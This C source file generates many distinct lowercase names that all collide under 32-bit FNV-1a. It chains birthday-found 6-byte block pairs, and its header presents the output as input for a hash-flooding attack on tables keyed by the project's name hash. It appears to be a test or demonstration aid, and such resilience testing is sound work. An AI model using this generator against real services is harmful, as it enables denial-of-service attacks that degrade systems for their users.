/*
 * fnv_flood.c - prints COUNT distinct service names (lowercase letters and
 * digits) that all have the same 32-bit FNV-1a hash, the format's name
 * hash (nssiana_name_hash): the input of a hash-flooding attack on any
 * table keyed by it.
 *
 *   fnv_flood COUNT
 *
 * FNV-1a's state is its hash, so two blocks of bytes that take one state
 * to the same next state can be swapped wherever they stand.  A birthday
 * search finds such a pair of 6-byte blocks from a given state in about
 * 2^16 tries; 17 pairs found one after the other give 2^17 names of 17
 * blocks, every choice of one block from each pair hashing alike.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "snapshot_format.h"

#define BLOCK 6
#define PAIRS 17
#define TRIES (1u << 18) /* about 8 expected collisions among them */

static const char alphabet[] = "abcdefghijklmnopqrstuvwxyz0123456789";

struct try {
	uint32_t state;
	char block[BLOCK];
};

static uint32_t step(uint32_t state, const char *bytes, size_t size)
{
	for (size_t i = 0; i < size; i++)
		state = (state ^ (unsigned char)bytes[i]) * NSSIANA_FNV_PRIME;
	return state;
}

static int by_state(const void *a, const void *b)
{
	uint32_t x = ((const struct try *)a)->state, y = ((const struct try *)b)->state;

	return (x > y) - (x < y);
}

/* Two different blocks taking `state` to one next state. */
static uint32_t find_pair(uint32_t state, struct try *tries, unsigned *seed,
			  char pair[2][BLOCK])
{
	for (;;) {
		for (size_t i = 0; i < TRIES; i++) {
			for (int k = 0; k < BLOCK; k++)
				tries[i].block[k] = alphabet[rand_r(seed) % (sizeof(alphabet) - 1)];
			tries[i].state = step(state, tries[i].block, BLOCK);
		}
		qsort(tries, TRIES, sizeof(*tries), by_state);
		for (size_t i = 1; i < TRIES; i++)
			if (tries[i].state == tries[i - 1].state &&
			    memcmp(tries[i].block, tries[i - 1].block, BLOCK) != 0) {
				memcpy(pair[0], tries[i - 1].block, BLOCK);
				memcpy(pair[1], tries[i].block, BLOCK);
				return tries[i].state;
			}
	}
}

int main(int argc, char **argv)
{
	unsigned long count = argc == 2 ? strtoul(argv[1], NULL, 10) : 0;
	struct try *tries = malloc(TRIES * sizeof(*tries));
	char pairs[PAIRS][2][BLOCK];
	uint32_t state = step(NSSIANA_FNV_OFFSET, "f", 1);
	unsigned seed = 1;

	if (count == 0 || count > (1ul << PAIRS) || !tries) {
		fprintf(stderr, "usage: fnv_flood COUNT (1 to %lu)\n", 1ul << PAIRS);
		return 2;
	}
	for (int p = 0; p < PAIRS; p++)
		state = find_pair(state, tries, &seed, pairs[p]);
	for (unsigned long n = 0; n < count; n++) {
		char name[2 + PAIRS * BLOCK] = "f";
		for (int p = 0; p < PAIRS; p++)
			memcpy(name + 1 + p * BLOCK, pairs[p][(n >> p) & 1], BLOCK);
		name[1 + PAIRS * BLOCK] = '\0';
		if (nssiana_name_hash(name) != state) {
			fprintf(stderr, "fnv_flood: %s does not collide\n", name);
			return 1;
		}
		puts(name);
	}
	free(tries);
	return 0;
}
